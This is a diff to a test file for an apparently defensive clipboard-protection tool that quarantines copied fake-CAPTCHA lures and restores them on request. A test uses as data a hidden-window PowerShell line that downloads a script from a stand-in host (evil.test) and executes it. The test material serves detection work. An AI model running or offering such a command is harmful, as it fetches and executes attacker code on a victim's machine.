@@ -58,11 +58,20 @@ class FakeStore:
     def flush(self) -> bool:
         return True
 
-    def amend(self, event_id: int | None, corrected: Event, *, was: Event | None = None) -> bool:
+    def amend(
+        self,
+        event_id: int | None,
+        corrected: Event,
+        *,
+        was: Event | None = None,
+        original: str | None = None,
+    ) -> bool:
         assert event_id is not None  # this store writes every event at once
         if self.refuse:  # a full disk: the file cannot be written now
             self.refuse -= 1
             return False
+        if original is not None and event_id in self.quarantine_items:
+            self.quarantine_items[event_id] = original
         old = self.events[event_id - 1]
         details = corrected_details(corrected.details, old.kind, old.action, old.details)
         self.events[event_id - 1] = replace(corrected, id=event_id, details=details)
@@ -755,8 +764,38 @@ def test_a_lure_with_a_counter_written_in_a_loop_is_one_event_keeping_its_versio
     assert "ID: 7000" in kept[0]["text"] and "ID: 7249" in kept[-1]["text"]
     assert kept[-1]["sha256"] == digest(lure.format(7249)) and "ID: 7001" in kept[1]["text"]
     assert "hxxps://evil[.]test" in kept[-1]["text"]  # defanged as any event's text
-    assert store.quarantine_items[1] == lure.format(7000)  # "Put it back": the first, as shown
+    # "Put it back" gives the last one written, what the person last copied (audit20 left it:
+    # it gave the first), and the event says so
+    assert store.quarantine_items[1] == lure.format(7249)
+    assert event.summary.endswith('"Put it back" gives the last one written.')
     assert [e.details.get("writes") for e in store.events[1:]] == [None, None]
+
+
+def test_put_it_back_during_a_burst_gives_the_last_version_written(engine: Engine) -> None:
+    """The person presses "Put it back" while the page still writes versions of its lure: the
+    warning shows (and would put back) the last one, the one they last copied, and the event's
+    quarantine holds it too; with the log unable to take that now, it comes from memory."""
+    clock = FakeClock()
+    service, store, ui = make(engine, clock=clock)
+    lure = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex" # I am not a robot - ID: {}'
+    for i in range(3):
+        copy(service, lure.format(i))
+        clock.advance(0.04)
+    service.request_restore(None)  # the tray's "Put back"
+    service.process_pending(clock.now)
+    assert service.text_of(ui.warnings[-1].digest) == lure.format(2)
+    assert store.quarantine_items == {1: lure.format(2)}
+    copy(service, lure.format(3))
+    store.refuse = 1  # the log cannot take the update now
+    service.request_restore(1)  # the notice's button
+    service.process_pending(clock.now)
+    assert service.text_of(ui.warnings[-1].digest) == lure.format(3)
+    assert store.quarantine_items == {1: lure.format(2)}  # brought up to date at the next try
+    copy(service, lure.format(0))  # the first again: the quarantine gets the first back
+    clock.advance(BURST_GAP)
+    service.process_pending(clock.now)
+    assert store.quarantine_items == {1: lure.format(0)}
+    assert store.events[0].details["writes"] == 5
 
 
 def test_a_bursts_long_versions_between_the_first_and_the_last_are_cut(engine: Engine) -> None:
